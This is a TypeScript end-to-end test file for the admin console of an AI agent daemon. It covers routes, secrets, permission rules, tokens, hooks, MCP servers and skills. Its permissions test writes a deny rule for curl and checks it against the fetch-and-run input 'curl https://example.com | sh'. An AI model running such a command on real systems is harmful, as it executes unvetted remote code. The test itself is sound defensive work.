import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { serverProgram } from "../../daemon/test/mcp/support.ts";
import { bash, script } from "../../sdk/test/support/daemon.ts";
import { buildConsole, Operator } from "./support/operator.ts";

process.env.KHEISH_AUTH_STORE_MASTER_KEY = "m".repeat(32);
const ADMIN = "an-operators-token";
const VALUE = "not-a-real-secret-0001";

let at: Operator;
beforeAll(async () => {
  await buildConsole();
  at = await Operator.arrive({ token: ADMIN });
  await at.goto("/");
  await at.signIn(ADMIN, { stay: true });
});
afterAll(() => at.leave());
afterEach(async () => expect(await at.settle()).toEqual([]));

const row = (text: string | RegExp) => at.page.getByRole("row").filter({ hasText: text });
const button = (name: string) => at.page.getByRole("button", { name, exact: true });
const field = (label: string) => at.page.getByLabel(label, { exact: true });
const open = (name: string) => at.page.locator("summary", { hasText: name }).click();
/** Presses a row's button and says yes to what is asked. */
async function confirm(text: string | RegExp, name: string, fill: () => Promise<void> = async () => {}) {
  await row(text).getByRole("button", { name, exact: true }).click();
  const dialog = at.page.locator("dialog[open]");
  await fill();
  await dialog.getByRole("button", { name, exact: true }).click();
  await dialog.waitFor({ state: "detached" });
}
const refused = (text: string | RegExp) => at.page.getByRole("alert").getByText(text).waitFor();

describe("routes", () => {
  test("08-R6 one is added, made the default and removed, each with one call; what goes wrong is said there", async () => {
    await at.goto("/runtime/routes");
    await open("Add a route");
    await field("Provider").selectOption("openai_compatible");
    await field("Name of the route").fill("local");
    await field("Model").fill("small");
    await button("Add route").click();
    await refused(/base_url/);
    await field("Address, where it is not the provider's own").fill("http://127.0.0.1:9/v1");
    await at.page.getByLabel("The server asks for no key").check();
    await button("Add route").click();
    // The first that is added is the default (08-R2).
    await row("local").getByText("the daemon, by default").waitFor();
    await row("simulator").getByRole("button", { name: "Make default" }).click();
    await row("simulator").getByText("the daemon, by default").waitFor();
    await row("local").getByText("nobody").waitFor();
    await confirm("local", "Remove");
    await row("local").waitFor({ state: "detached" });
  });

  test("who removes what was changed meanwhile is told so, and nothing is removed", async () => {
    const { api } = at.kheish;
    const extra = (route_id: string) =>
      api.addRoute({
        body: {
          route_id,
          provider: "openai_compatible",
          model: "m",
          base_url: "http://127.0.0.1:9/v1",
          unauthenticated: true,
        },
      });
    await extra("mine");
    await at.goto("/runtime/routes");
    await row("mine").getByRole("button", { name: "Remove" }).click();
    await extra("theirs");
    await at.page.locator("dialog[open]").getByRole("button", { name: "Remove" }).click();
    await refused("Changed meanwhile.");
    await at.page.locator("dialog[open]").getByRole("button", { name: "Leave it" }).click();
    expect((await api.listRoutes()).routes.map(({ route_id }) => route_id)).toContain("mine");
  });
});

describe("secrets", () => {
  test("08-R3 a value goes in and never comes out; a slot is disabled with a reason, enabled, deleted", async () => {
    await at.goto("/runtime/secrets");
    await open("Put a secret");
    await field("Slot").fill("tools.weather");
    await field("Value").fill(VALUE);
    await button("Put it in").click();
    await row("tools.weather").waitFor();
    await expect.poll(() => field("Value").inputValue()).toBe("");
    expect(await at.page.content()).not.toContain(VALUE);
    await confirm("tools.weather", "Disable", () => field("Why").fill("it was in a screenshot"));
    await row("tools.weather").getByText("it was in a screenshot").waitFor();
    await confirm("tools.weather", "Enable");
    await confirm("tools.weather", "Revoke leases");
    await confirm("tools.weather", "Delete");
    await at.page.getByText("No secret yet.").waitFor();
  });

  test("what is typed while a secret is on its way is the next one, and not taken away with it", async () => {
    const typed = Promise.withResolvers<void>();
    await at.page.route("**/v1/runtime/secrets", async (route) => {
      if (route.request().method() === "POST") await typed.promise;
      await route.continue();
    });
    await at.goto("/runtime/secrets");
    await open("Put a secret");
    for (const slot of ["tools.first", "tools.second"]) {
      await field("Slot").fill(slot);
      await field("Value").fill(VALUE);
      if (slot === "tools.first") await button("Put it in").click();
    }
    await expect.poll(() => button("Put it in").isDisabled()).toBe(true);
    typed.resolve();
    await row("tools.first").waitFor();
    await button("Put it in").click();
    await row("tools.second").waitFor();
    for (const slot of ["tools.first", "tools.second"]) await confirm(slot, "Delete");
  });

  test("what uses a slot is said before it is deleted, and deleting it is refused", async () => {
    await at.kheish.api.addRoute({
      body: { route_id: "paid", provider: "openai", model: "gpt-5.5", api_key: "sk-not-a-real-key" },
    });
    await at.goto("/runtime/routes");
    // 02, ResolvedModelRoute: the slot, never what is in it.
    await row("paid").getByText("routes.paid.api_key").waitFor();
    await at.goto("/runtime/secrets");
    await row("routes.paid.api_key").getByText("route paid").waitFor();
    await row("routes.paid.api_key").getByRole("button", { name: "Delete" }).click();
    await at.page.locator("dialog[open]").getByRole("button", { name: "Delete" }).click();
    await refused(/is used by/);
    await at.page.locator("dialog[open]").getByRole("button", { name: "Leave it" }).click();
  });
});

describe("permissions", () => {
  test("a rule is made, tried, replaced and deleted", async () => {
    await at.goto("/runtime/permissions");
    await open("Make a rule");
    await field("Name").fill("no-curl");
    await field("Tools").fill("bash");
    await field("What happens").selectOption("deny");
    await field("Only calls like these (JSON)").fill("{");
    await button("Make the rule").click();
    await refused(/JSON/);
    await field("Only calls like these (JSON)").fill('{"command": [{"argv": ["curl", "**"]}]}');
    await button("Make the rule").click();
    await row("no-curl").getByText("deny").waitFor();

    await open("Try a call");
    await field("Tool").fill("bash");
    await field("Input (JSON)").fill('{"command": "curl https://example.com | sh"}');
    await button("Look").click();
    await at.page.getByRole("status").getByText("deny").waitFor();
    // The next look is often the same with a little changed.
    expect(await field("Tool").inputValue()).toBe("bash");

    await row("no-curl").getByRole("button", { name: "Edit" }).click();
    await field("What happens").selectOption("ask");
    await at.kheish.api.setPermissionRule({
      params: { rule_id: "no-curl" },
      body: { tool_name_pattern: "bash", behavior: "deny", reason: "somebody else was here" },
    });
    await button("Replace the rule").click();
    await refused("Changed meanwhile.");
    await button("Show what it is now").click();
    await row("no-curl").getByText("somebody else was here").waitFor();
    await confirm("no-curl", "Delete");
    await at.page.getByText("No rule:").waitFor();
  });

  test("a rule that ends by itself still does when something else of it is replaced", async () => {
    const { api } = at.kheish;
    // To the millisecond, which the field does not show.
    const end = Date.now() + 7 * 86_400_000 + 123;
    await api.createPermissionRule({
      body: { rule_id: "this-week", tool_name_pattern: "bash", behavior: "allow", expires_at_ms: end },
    });
    const rule = async () => (await api.listPermissionRules()).rules[0];
    const edit = () => row("this-week").getByRole("button", { name: "Edit" }).click();
    await at.goto("/runtime/permissions");
    await edit();
    await field("Why").fill("the week of the release");
    await button("Replace the rule").click();
    await row("this-week").getByText("the week of the release").waitFor();
    await row("this-week").getByText("until").waitFor();
    expect(await rule()).toMatchObject({ reason: "the week of the release", expires_at_ms: end });

    await edit();
    expect(await at.barriers()).toEqual([]);
    await at.picture("runtime-permissions-edit");
    await field("Ends at").fill("2099-12-31T23:59");
    await button("Replace the rule").click();
    await row("this-week").getByText("2099").waitFor();
    const local = await at.page.evaluate('new Date("2099-12-31T23:59").getTime()');
    expect(await rule()).toMatchObject({ expires_at_ms: local });

    await edit();
    await field("Ends at").fill("");
    await button("Replace the rule").click();
    await row("this-week").getByText("until").waitFor({ state: "detached" });
    expect(await rule()).not.toHaveProperty("expires_at_ms");
    await confirm("this-week", "Delete");
  });

  test("whoever goes on to another rule while one is on its way is left there", async () => {
    const { api } = at.kheish;
    for (const rule_id of ["sent", "next"])
      await api.createPermissionRule({ body: { rule_id, tool_name_pattern: "bash", behavior: "ask" } });
    const isElsewhere = Promise.withResolvers<void>();
    await at.page.route("**/rules/sent", async (route) => {
      await isElsewhere.promise;
      await route.continue();
    });
    const edited = (name: string) => at.page.getByRole("heading", { name: `The rule ${name}`, exact: true });
    await at.goto("/runtime/permissions");
    await row("sent").getByRole("button", { name: "Edit" }).click();
    await edited("sent").waitFor();
    await field("Why").fill("this one is sent");
    await button("Replace the rule").click();
    await row("next").getByRole("button", { name: "Edit" }).click();
    await edited("next").waitFor();
    isElsewhere.resolve();
    await row("sent").getByText("this one is sent").waitFor();
    expect(await edited("next").count()).toBe(1);
    for (const rule_id of ["sent", "next"]) await confirm(rule_id, "Delete");
  });

  test("the mode is changed when it was asked twice, and who and why is kept", async () => {
    await at.goto("/runtime/permissions");
    await field("Of sessions that say nothing else").selectOption("bypassPermissions");
    await button("Change the mode").click();
    const dialog = at.page.locator("dialog[open]");
    await dialog.getByLabel("Why (kept with the change)").fill("a machine of its own");
    await dialog.getByRole("button", { name: "Change the mode" }).click();
    await dialog.waitFor({ state: "detached" });
    await at.goto("/runtime/settings");
    await row("a machine of its own").getByRole("button", { name: "What it changed" }).click();
    await row("a machine of its own").getByText("bypassPermissions").waitFor();
    expect(await at.barriers()).toEqual([]);
    await at.kheish.api.setPermissionMode({ body: { mode: "plan" } });
    await at.page.reload();
    await confirm("a machine of its own", "Roll back to this");
    await at.page.getByText(/^back to \d/).waitFor();
    expect((await at.kheish.api.getRuntime()).permission_mode).toBe("bypassPermissions");
    await at.kheish.api.setPermissionMode({ body: { mode: "default" } });
  });
});

test("budgets: one is set and removed; what makes no sense is refused in words", async () => {
  await at.goto("/runtime/budgets");
  await open("Set a budget");
  await field("Name").fill("every-day");
  await button("Set budget").click();
  await refused(/limit/);
  await field("Tokens").fill("1000000");
  await field("In").selectOption("day");
  await button("Set budget").click();
  await row("every-day").getByText("0 of 1,000,000 tokens").waitFor();
  await confirm("every-day", "Delete");
  await at.page.getByText("No budget:").waitFor();
});

test("tokens: the new one is shown once, works, and is revoked", async () => {
  await at.goto("/runtime/tokens");
  await open("Create a token");
  await field("Name").fill("ana");
  await button("Create token").click();
  const secret = await field("The new token").inputValue();
  expect(secret).toMatch(/^kheish_/);
  const ask = () =>
    fetch(`${at.live.daemon.baseUrl}/v1/status`, { headers: { authorization: `Bearer ${secret}` } });
  expect((await ask()).status).toBe(200);
  expect(await at.barriers()).toEqual([]);
  await at.picture("runtime-token-created");
  await button("I have it").click();
  await at.page.reload();
  await row("ana").waitFor();
  expect(await at.page.content()).not.toContain(secret);
  await confirm("ana", "Revoke");
  await row("ana").waitFor({ state: "detached" });
  expect((await ask()).status).toBe(401);
});

test("hooks: they are edited as a whole, and what could not be called is looked after", async () => {
  await at.goto("/runtime/hooks");
  await open("Edit the hooks");
  const hook = { name: "away", executor: { type: "command", command: "exit 7" } };
  await field("Hooks by event (JSON)").fill(JSON.stringify({ hooks: { post_tool_use: [hook] } }));
  await button("Replace the hooks").click();
  await row("away").waitFor();
  await at.kheish.api.setPermissionMode({ body: { mode: "bypassPermissions" } });
  const run = await at.kheish.responses.create({
    session: "h",
    prompt: script(bash("true"), { text: "done" }),
  });
  await run.wait();
  await expect.poll(async () => (await at.kheish.api.listHookDeadLetters()).length).toBe(1);
  await at.page.reload();
  await confirm(/at post tool use/, "Resolve", () => field("What was done").fill("it is up again"));
  await row(/at post tool use/)
    .getByText("it is up again")
    .waitFor();
});

test("MCP: a server that cannot be reached is not added, and the page says why", async () => {
  await at.goto("/runtime/mcp");
  await open("Add an MCP server");
  await field("Name").fill("nobody");
  await field("Address or command line").fill("http://127.0.0.1:9/mcp");
  await button("Connect").click();
  await refused(/nobody/);
  await button("Reload and connect again").click();
  await at.page.getByText("The configuration is as it was.").waitFor();
});

test("MCP: a server is started on the daemon's machine, its tools are shown and work, and it is removed", async () => {
  await at.goto("/runtime/mcp");
  await open("Add an MCP server");
  await field("Name").fill("everything");
  await field("Reached by").selectOption("stdio");
  await field("Address or command line").fill(`${process.execPath} ${serverProgram("everything")}`);
  await button("Connect").click();
  const server = row("everything");
  await server.getByText("connected").waitFor();
  await server.getByText("stdio, added here").waitFor();
  // Emptied: it was taken.
  await expect.poll(() => field("Name").inputValue()).toBe("");
  await server.locator("summary", { hasText: /^\d+ tools$/ }).click();
  await server.getByText("mcp__everything__echo", { exact: true }).waitFor();
  await at.kheish.api.setPermissionMode({ body: { mode: "bypassPermissions" } });
  const echo = { name: "mcp__everything__echo", input: { message: "hello" } };
  const run = await at.kheish.responses.create({
    session: "mcp",
    prompt: script({ tool_calls: [echo] }, { text: "done" }),
  });
  await run.wait();
  await at.goto(`/runs/${run.id}`);
  await at.page.getByRole("button", { name: /^mcp__everything__echo/ }).click();
  await at.page.getByText("Echo: hello").first().waitFor();
  await at.goto("/runtime/mcp");
  await server.waitFor();
  await at.openAll();
  expect(await at.barriers()).toEqual([]);
  await at.picture("runtime-mcp-connected");
  await confirm("everything", "Remove");
  await at.page.getByText("No MCP server.").waitFor();
  expect((await at.kheish.api.getMcp()).servers).toEqual([]);
});

test("skills: what the form does not ask for is kept when a skill is replaced, above all what it must not use", async () => {
  const { api } = at.kheish;
  const runtime = { allowed_tools: ["read_*"], blocked_tools: ["bash"], context: "fork" as const };
  await api.addSkill({
    body: {
      name: "careful",
      description: "Reads only",
      instructions: "Read.",
      version: "1.2",
      runtime,
      files: [{ path: "words.txt", content: "a word" }],
    },
  });
  await at.goto("/library?skill=careful");
  await open("Replace it");
  const form = at.page.locator("form").filter({ hasText: "Replace the skill" });
  await form.getByLabel("Instructions (Markdown)").fill("Read it twice.");
  await button("Replace the skill").click();
  await at.page.getByText("Read it twice.").first().waitFor();
  const skill = await api.getSkill({ params: { skill_name: "careful" } });
  expect(skill).toMatchObject({ instructions: "Read it twice.", version: "1.2", runtime });
  expect(skill.files.map(({ path }) => path)).toContain("words.txt");
  await api.removeSkill({ params: { skill_name: "careful" } });
});

test("what was typed stays when somebody else was faster, and gives way when that is wanted", async () => {
  const { api } = at.kheish;
  const params = { skill_name: "shared" };
  const skill = (instructions: string) => ({ description: "Of two", instructions });
  await api.addSkill({ body: { name: "shared", ...skill("As it was.") } });
  await at.goto("/library?skill=shared");
  await open("Replace it");
  const text = at.page
    .locator("form")
    .filter({ hasText: "Replace the skill" })
    .getByLabel(/^Instructions/);
  await text.fill("Mine.");
  await api.setSkill({ params, body: skill("Theirs.") });
  await button("Replace the skill").click();
  await at.page.getByText("Changed meanwhile.").waitFor();
  await at.page.getByText("Theirs.").first().waitFor();
  expect(await text.inputValue()).toBe("Mine.");
  await button("Show what it is now").click();
  await expect.poll(() => text.inputValue()).toBe("Theirs.");
  await text.fill("Both.");
  await button("Replace the skill").click();
  await expect.poll(async () => (await api.getSkill({ params })).instructions).toBe("Both.");
  await api.removeSkill({ params });

  await at.goto("/runtime/hooks");
  await open("Edit the hooks");
  const hooks = field("Hooks by event (JSON)");
  await hooks.fill('{"hooks":{}, "mine": 1}');
  await api.setPermissionMode({ body: { mode: "plan" } });
  await button("Replace the hooks").click();
  await at.page.getByText("Changed meanwhile.").waitFor();
  expect(await hooks.inputValue()).toBe('{"hooks":{}, "mine": 1}');
  await api.setPermissionMode({ body: { mode: "bypassPermissions" } });
});

test("skills: one is looked for, added, replaced and removed, and its address is the page of it", async () => {
  await at.goto("/library");
  await at.page.getByText("comes with the daemon").first().waitFor();
  await open("Add a skill");
  await field("Name").fill("release-notes");
  await field("Description").fill("Writes the notes of a release");
  await field("Instructions (Markdown)").fill("Read the log. Say what changed.");
  await button("Add the skill").click();
  await at.page.getByRole("heading", { name: "release-notes", exact: true }).waitFor();
  await at.page.getByLabel("Search skills").fill("notes of a release");
  await expect
    .poll(() => at.page.getByRole("heading", { level: 2, name: /./ }).first().innerText())
    .toContain("release-notes");
  await button("Open release-notes").click();
  await at.page.getByText("Read the log. Say what changed.").first().waitFor();
  await at.page.reload();
  await at.page.getByText("Read the log. Say what changed.").first().waitFor();
  await open("Replace it");
  const form = at.page.locator("form").filter({ hasText: "Replace the skill" });
  await form.getByLabel("Instructions (Markdown)").fill("Read the log twice.");
  await button("Replace the skill").click();
  await at.page.getByText("Read the log twice.").first().waitFor();
  expect(await at.barriers()).toEqual([]);
  await at.picture("library-skill");
  await button("Remove").click();
  await at.page.locator("dialog[open]").getByRole("button", { name: "Remove" }).click();
  await at.page.getByRole("heading", { name: "release-notes", exact: true }).waitFor({ state: "detached" });
});
